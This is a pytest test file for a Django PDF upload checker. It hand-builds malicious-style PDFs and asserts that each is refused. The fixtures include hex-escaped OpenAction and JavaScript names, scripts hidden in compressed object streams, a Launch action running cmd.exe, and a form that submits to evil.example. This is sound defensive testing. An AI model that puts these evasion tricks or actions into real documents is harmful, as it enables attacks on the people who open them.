"""The PDF check decides on the parsed document: hex-escaped names and objects
hidden in compressed object streams are seen, and refused."""

import io
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter

from applications.uploads import check_upload
from common.exceptions import ApplicationError

PAGE = b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>"


def classic_pdf(objects: list[bytes]) -> bytes:
    """A PDF with a classic cross-reference table; object n is ``objects[n - 1]``, 1 is the catalog."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def object_stream_pdf(inner: dict[int, bytes]) -> bytes:
    """A PDF whose objects (``inner``: number → body) all sit in one Flate-compressed
    object stream (object 1), indexed by a cross-reference stream; object 2 is the catalog."""
    numbers = sorted(inner)
    header, bodies, position = [], b"", 0
    for number in numbers:
        header.append(b"%d %d" % (number, position))
        body = inner[number] + b"\n"
        bodies += body
        position += len(body)
    header_bytes = b" ".join(header) + b"\n"
    data = zlib.compress(header_bytes + bodies)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = out.tell()
    out.write(
        b"1 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(numbers), len(header_bytes), len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    size = max(numbers) + 2
    xref_number = size - 1
    xref_offset = out.tell()
    rows = [b"\x00\x00\x00\x00\x00\xff\xff", b"\x01" + stream_offset.to_bytes(4, "big") + b"\x00\x00"]
    for number in range(2, xref_number):
        index = numbers.index(number)
        rows.append(b"\x02" + (1).to_bytes(4, "big") + index.to_bytes(2, "big"))
    rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n"
        % (xref_number, size, len(table))
        + table
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_offset)
    return out.getvalue()


def _check(content: bytes):
    return check_upload(SimpleUploadedFile("材料.pdf", content, "application/pdf"))


def _refused_as_active(content: bytes) -> None:
    with pytest.raises(ApplicationError) as refused:
        _check(content)
    assert refused.value.code == "pdf_active_content"
    assert refused.value.status == 400


PAGES = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"


@pytest.mark.parametrize(
    "catalog",
    [
        b"<< /Type /Catalog /Pages 3 0 R /Op#65nAction 2 0 R >>",
        b"<< /Type /Catalog /Pages 3 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
        b"<< /Type /Catalog /Pages 3 0 R /#4fpen#41ction 2 0 R >>",
    ],
    ids=["escaped-openaction", "escaped-javascript-inline", "fully-escaped-openaction"],
)
def test_hex_escaped_names_are_decoded_and_refused(catalog):
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    _refused_as_active(classic_pdf([catalog, action, PAGES, PAGE]))


def test_escaped_javascript_in_the_names_tree_is_refused():
    catalog = b"<< /Type /Catalog /Pages 3 0 R /Names << /J#61vaScript 2 0 R >> >>"
    names = b"<< /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >>"
    _refused_as_active(classic_pdf([catalog, names, PAGES, PAGE]))


def test_a_link_annotation_launching_a_program_is_refused():
    page = b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] /Annots [2 0 R] >>"
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /L#61unch /F (cmd.exe) >> >>"
    catalog = b"<< /Type /Catalog /Pages 3 0 R >>"
    _refused_as_active(classic_pdf([catalog, annotation, PAGES, page]))


def test_an_acroform_that_submits_is_refused():
    catalog = b"<< /Type /Catalog /Pages 3 0 R /AcroForm << /Fields [2 0 R] >> >>"
    field = b"<< /FT /Btn /T (go) /A << /S /Subm#69tForm /F (https://evil.example/) >> >>"
    _refused_as_active(classic_pdf([catalog, field, PAGES, PAGE]))


def test_catalog_and_script_inside_a_compressed_object_stream_are_refused():
    inner = {
        2: b"<< /Type /Catalog /Pages 3 0 R /OpenAction 5 0 R >>",
        3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>",
        5: b"<< /S /JavaScript /JS (app.alert(1)) >>",
    }
    content = object_stream_pdf(inner)
    assert b"JavaScript" not in content and b"OpenAction" not in content  # invisible to a byte search
    _refused_as_active(content)


def test_an_unreferenced_script_object_in_an_object_stream_is_refused():
    inner = {
        2: b"<< /Type /Catalog /Pages 3 0 R >>",
        3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>",
        5: b"<< /S /J#61vaScript /JS (app.alert(1)) >>",
    }
    _refused_as_active(object_stream_pdf(inner))


def test_a_clean_object_stream_pdf_and_a_plain_pdf_are_accepted():
    inner = {
        2: b"<< /Type /Catalog /Pages 3 0 R >>",
        3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>",
    }
    assert _check(object_stream_pdf(inner)).content_type == "application/pdf"
    assert _check(
        classic_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            ]
        )
    ).sha256
    buffer = io.BytesIO()
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.write(buffer)
    assert _check(buffer.getvalue()).content_type == "application/pdf"
